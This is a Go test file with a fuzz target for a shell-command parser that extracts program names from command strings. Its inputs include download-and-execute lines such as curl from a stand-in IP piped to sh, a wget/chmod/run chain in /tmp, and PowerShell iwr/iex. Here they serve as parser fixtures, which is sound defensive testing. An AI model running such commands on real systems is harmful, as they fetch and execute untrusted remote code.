package shell

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestCommands(t *testing.T) {
	for text, want := range map[string]string{
		"":                                      "",
		"whoami":                                "whoami",
		"curl http://192.0.2.1/a.sh | sh":       "curl sh",
		"cd /tmp && wget x; chmod +x x; ./x &":  "cd wget chmod x",
		"A=1 B=2 prog":                          "prog",
		"sudo -E apt-get install x":             "sudo apt-get",
		`sh -c 'curl x | bash'`:                 "sh curl bash",
		`bash -lc "id; uname -a"`:               "bash id uname",
		`cmd /c "start /b calc.exe"`:            "cmd start calc",
		`cmd.exe /C del x`:                      "cmd del",
		"powershell -Command \"iwr x; iex y\"":  "powershell iwr iex",
		"powershell -c Start-Process x":         "powershell start-process",
		`C:\Windows\System32\calc.exe`:          "calc",
		"echo $(id) `whoami`":                   "echo id whoami",
		"echo 'a; b' # rm":                      "echo",
		"nohup python x.py > /dev/null 2>&1":    "nohup python",
		"true || false":                         "true false",
		"a\nb":                                  "a b",
		"'unclosed":                             "unclosed",
		strings.Repeat("sh -c '", 100) + "true": "sh sh sh sh sh sh sh sh sh",
	} {
		require.Equal(t, want, strings.Join(Commands(text), " "), text)
	}
	require.Equal(t, []string{"bash", "curl", "sh"}, Argv([]string{"/bin/bash", "-c", "curl x | sh"}))
	require.Equal(t, []string{"git"}, Argv([]string{"git", "clone", "a; b"}))
	require.Len(t, Commands(strings.Repeat("a;", 1000)), maxCommands)
}

func FuzzCommands(f *testing.F) {
	f.Add("curl x | sh -c 'y'")
	f.Fuzz(func(t *testing.T, text string) {
		require.LessOrEqual(t, len(Commands(text)), maxCommands)
	})
}
